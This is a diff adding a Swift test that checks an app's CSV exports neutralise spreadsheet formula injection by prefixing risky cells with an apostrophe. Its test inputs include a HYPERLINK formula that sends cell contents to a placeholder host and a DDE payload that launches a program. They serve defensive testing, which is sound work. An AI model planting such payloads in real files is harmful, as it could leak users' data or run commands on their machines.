@@ -93,6 +93,71 @@ import VigilCore
         }
     }
 
+    /// RFC 4180 fields, read independently of the writer: quoted fields may hold commas, doubled
+    /// quotes and line ends.
+    static func csvRows(_ text: String) -> [[String]] {
+        var rows: [[String]] = []
+        var row: [String] = []
+        var field = ""
+        var quoted = false
+        var chars = Array(text)[...]
+        while let c = chars.popFirst() {
+            if quoted {
+                if c == "\"" {
+                    if chars.first == "\"" {
+                        field.append("\"")
+                        chars.removeFirst()
+                    } else {
+                        quoted = false
+                    }
+                } else {
+                    field.append(c)
+                }
+            } else if c == "\"" {
+                quoted = true
+            } else if c == "," {
+                row.append(field)
+                field = ""
+            } else if c == "\r\n" || c == "\n" {
+                row.append(field)
+                rows.append(row)
+                (row, field) = ([], "")
+            } else {
+                field.append(c)
+            }
+        }
+        return rows
+    }
+
+    /// A task, an application or a device named like a formula (from an import, a recording or
+    /// another device) is text in a spreadsheet: every CSV table's text cells that would start
+    /// with `=`, `+`, `-`, `@`, a tab or a carriage return start with `'` instead.
+    @Test(arguments: ["=HYPERLINK(\"http://e/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
+    func csvCellsAreNeverFormulas(_ name: String) throws {
+        let fixture = HTMLReportTests()
+        let facts = fixture.history(days: 3, until: "2026-11-10", tasks: [name])
+        var r = Statistics.report(facts, timeZone: utc, from: fixture.day("2026-11-08"), to: fixture.day("2026-11-10"), task: nil)
+        r.applications = Report.ApplicationFigures(apps: [(ApplicationKey(name, .distracting), 900_000, 2, 1)], calls: 0, callMilliseconds: 0)
+        r.devices = [
+            .init(device: name, sessions: 1, focusedMinutes: 1, distractedMinutes: 0, episodes: 0),
+            .init(device: "laptop", sessions: 1, focusedMinutes: 1, distractedMinutes: 0, episodes: 0),
+        ]
+        let shown = name.terminalSafeLines
+        let expected = (shown.first.map { "=+-@\t\r".contains($0) } ?? false ? "'" : "") + shown
+        for table in [Report.CSVTable.tasks, .apps, .devices] {
+            let rows = Self.csvRows(r.csv(table))
+            #expect(rows.count >= 2, "\(table): \(rows)")
+            let firstCells = rows.dropFirst().map { $0[0] }
+            #expect(firstCells.contains(expected), "\(table): \(firstCells)")
+            for cell in rows.flatMap({ $0 }) {
+                #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "\(table): a formula cell \(cell.debugDescription)")
+            }
+        }
+        // A name that is not a formula is written as it is.
+        #expect(csvCell("thesis - chapter 2") == "thesis - chapter 2")
+        #expect(csvCell("a, b") == "\"a, b\"")
+    }
+
     @Test func csvQuotesANewlineAndEscapesTheRest() throws {
         let csv = report().csv(.tasks)
         // CRLF ends a record; a name's own newline stays inside its quotes (RFC 4180).
